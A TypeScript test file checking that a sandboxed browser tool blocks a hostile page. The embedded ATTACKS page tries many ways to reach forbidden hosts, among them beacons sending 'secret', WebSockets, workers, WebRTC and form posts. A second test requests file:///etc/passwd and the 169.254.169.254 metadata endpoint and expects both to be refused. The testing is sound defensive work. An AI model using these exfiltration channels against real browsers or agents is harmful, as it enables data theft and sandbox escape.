import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { type AddressInfo, connect, createServer } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { servePages, type WebPage } from '../../../test/support/web-pages.ts'
import { type TestHub, testHub } from '../../testing/src/tool-contract.ts'

/** What a page might try to get past the proxy; `AWAY` is where nobody may go. */
const ATTACKS = `<title>attack</title><body><p id=state>trying</p><script>
const settle = (promise, name) => promise.then(() => name + ' reached', () => name + ' refused')
const late = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
const away = location.hash.slice(1).split(',')
for (const origin of away) {
  const add = (html) => document.body.insertAdjacentHTML('beforeend', html)
  add('<link rel=dns-prefetch href=' + origin + '><link rel=preconnect href=' + origin + '><link rel=prefetch href=' + origin + '/prefetch>')
  add('<img src=' + origin + '/img><iframe src=' + origin + '/frame></iframe><video src=' + origin + '/video></video>')
  add('<link rel=stylesheet href=' + origin + '/style><object data=' + origin + '/object></object>')
  add('<iframe srcdoc="<meta http-equiv=refresh content=\\'0;url=' + origin + '/refresh\\'>"></iframe>')
  add('<iframe srcdoc="<form method=post action=' + origin + '/form></form><script>document.forms[0].submit()<\\/script>"></iframe>')
  add('<iframe srcdoc="<script>location=\\'' + origin + '/location\\'<\\/script>"></iframe>')
  const rules = document.createElement('script')
  rules.type = 'speculationrules'
  rules.text = JSON.stringify({ prefetch: [{ urls: [origin + '/rule'], eagerness: 'immediate' }], prerender: [{ urls: [origin + '/rule2'], eagerness: 'immediate' }] })
  document.head.append(rules)
  try { new WebTransport(origin.replace('http', 'https') + '/quic').ready.catch(() => {}) } catch {}
  add('<a ping=' + origin + '/ping href=#x>x</a>')
  document.querySelector('a:last-of-type').click()
  navigator.sendBeacon(origin + '/beacon', 'secret')
  new EventSource(origin + '/events')
  new WebSocket(origin.replace('http', 'ws') + '/ws')
  new Worker(URL.createObjectURL(new Blob(['fetch("' + origin + '/worker",{mode:"no-cors"})'])))
  window.open(origin + '/popup')
  for (const scheme of ['stun', 'turn']) {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: scheme + ':' + origin.slice(7), username: 'u', credential: 'c' }] })
    peer.createDataChannel('x')
    peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  }
  navigator.serviceWorker?.register('/worker.js').catch(() => {})
}
Promise.all([
  ...away.map((origin) => settle(fetch(origin + '/fetch', { mode: 'no-cors' }).then((r) => r.text()), 'fetch')),
  settle(fetch('/redirect?to=' + away[0]).then((r) => r.ok || Promise.reject()), 'redirect'),
  settle(fetch('/policy').then((r) => r.ok || Promise.reject()), 'policy'),
  settle(fetch('/own').then((r) => r.ok || Promise.reject()), 'own'),
  late(300),
]).then((all) => { document.title = 'over'; document.querySelector('#state').textContent = all.join(' ') + ' over' })
</script>`

const redirect: WebPage = ({ url = '' }, response) => {
  const to = new URL(url, 'http://x').searchParams.get('to')
  response.writeHead(302, { location: `${to}/redirected` }).end()
}
const pages = { '/attack': ATTACKS, '/own': 'own page', '/policy': 'nobody may see this', '/redirect': redirect }

// Both ways of keeping Chromium from the machine: one has a network of its own, the other only what it is given.
describe.each(['own', 'command'] as const)('a page in a browser with the sandbox %s', (sandbox) => {
  let web: Awaited<ReturnType<typeof servePages>>
  let hub: TestHub
  let connections = 0
  let packets = 0
  const forbidden = createServer((socket) => {
    connections += 1
    socket.on('error', () => {}).end('HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nhi')
  })
  const datagrams = createSocket('udp6').on('message', () => {
    packets += 1
  })
  const use = async (input: object) => hub.callDynamic('core/browser', input)

  beforeAll(async () => {
    web = await servePages(pages)
    forbidden.listen(0, '::')
    await once(forbidden, 'listening')
    datagrams.bind((forbidden.address() as AddressInfo).port)
    await once(datagrams, 'listening')
    hub = testHub({
      sandbox: { network: ['127.0.0.1', 'public.example'], privateRanges: ['127.0.0.1/32'] },
      policy: [{ deny: 'network', on: [`${web.base}/policy`] }],
      browser: { sandbox },
    })
  })
  afterAll(async () => {
    await hub.close()
    web.close()
    forbidden.close()
    datagrams.close()
  })

  it('reaches nothing that the owner did not open, however it tries', async () => {
    const { port } = forbidden.address() as AddressInfo
    const away = sandbox === 'own' ? [`127.0.0.2:${port}`, `localhost:${port}`] : [`[::1]:${port}`]
    const opened = await use({
      action: 'open',
      url: `${web.base}/attack#${away.map((host) => `http://${host}`).join()}`,
      waitUntil: 'domcontentloaded',
    })
    expect(opened.error).toBeUndefined()
    const waited = await use({ action: 'wait', tab: 't1', text: 'over' })
    expect(waited).toMatchObject({ ok: true, data: { title: 'over' } })
    const said = await use({ action: 'evaluate', tab: 't1', expression: 'state.textContent' })
    expect(said.data).toMatchObject({
      value: { json: expect.stringMatching(/redirect refused policy refused own reached/) },
    })
    expect(web.asked).not.toContain('GET /policy')
    expect(web.asked).not.toContain('GET /worker.js')
    expect({ connections, packets }).toEqual({ connections: 0, packets: 0 })
    // The counters count.
    const probe = connect(port, '127.0.0.2')
    await once(probe, 'data')
    datagrams.send('x', port, '::1')
    await once(datagrams, 'message')
    expect({ connections, packets }).toEqual({ connections: 1, packets: 1 })
    probe.destroy()
  })

  it('is not visited where its address, its redirect or its scheme is refused', async () => {
    const { port } = forbidden.address() as AddressInfo
    const refused = [
      'file:///etc/passwd',
      'chrome://version',
      'data:text/html,x',
      'javascript:1',
      'view-source:http://127.0.0.1/',
    ]
    for (const url of [...refused, 'http://169.254.169.254/latest/meta-data/', `http://localhost:${port}/`]) {
      expect(await use({ action: 'navigate', tab: 't1', url }), url).toMatchObject({
        error: { code: 'HTTP_DISALLOWED_HOST' },
      })
    }
    const redirect = `${web.base}/redirect?to=http://127.0.0.2:${port}`
    const redirected = await use({ action: 'navigate', tab: 't1', url: redirect })
    expect(redirected.error).toMatchObject({
      code: 'HTTP_DISALLOWED_HOST',
      message: expect.stringMatching(/127\.0\.0\.2/),
    })
    expect(await use({ action: 'navigate', tab: 't1', url: `${web.base}/policy` })).toMatchObject({ status: 'denied' })
    // A name of the owner's that does not lead anywhere: the proxy looks it up, Chromium does not.
    const unknown = await use({ action: 'navigate', tab: 't1', url: 'https://public.example/' })
    expect(unknown.ok).toBe(false)
    expect({ connections, asked: web.asked.includes('GET /policy') }).toEqual({ connections: 1, asked: false })
  })
})
